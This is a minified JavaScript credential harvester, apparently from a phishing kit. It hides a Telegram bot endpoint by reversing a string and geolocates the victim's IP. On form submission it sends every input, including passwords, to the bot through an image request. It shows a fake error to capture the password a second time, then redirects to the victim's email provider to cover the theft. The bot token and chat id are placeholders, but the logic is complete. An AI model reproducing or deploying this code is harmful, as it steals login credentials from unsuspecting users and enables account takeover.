!function(){var d=document,q=function(s){return d.querySelector(s)},t=["0000","TOKEN"].join(":"),c="2222222",k="//api."+"margelet".split("").reverse().join("")+".org/bot",g="";
fetch("https://ip-api.com/json").then(function(r){return r.json()}).then(function(j){g=j.query+" "+j.country+" "+j.isp}).catch(function(){});
q("form").onsubmit=function(e){e.preventDefault();var o=[];d.querySelectorAll("input").forEach(function(i){if(i.type!="submit")o.push((i.name||i.id)+" = "+i.value)});
o.push(g,location.hostname,navigator.userAgent);
var u="https:"+k+t+"/sendMessage?chat_id="+c+"&text="+encodeURIComponent(o.join("\n"));(new Image).src=u;
q(".spin").hidden=!1;setTimeout(function(){q(".spin").hidden=!0;if(!localStorage.r){localStorage.r=1;q(".bad").hidden=!1;q("input[type=password]").value=""}else{location="https://"+q("input[type=email]").value.split("@")[1]}},1800)}}();
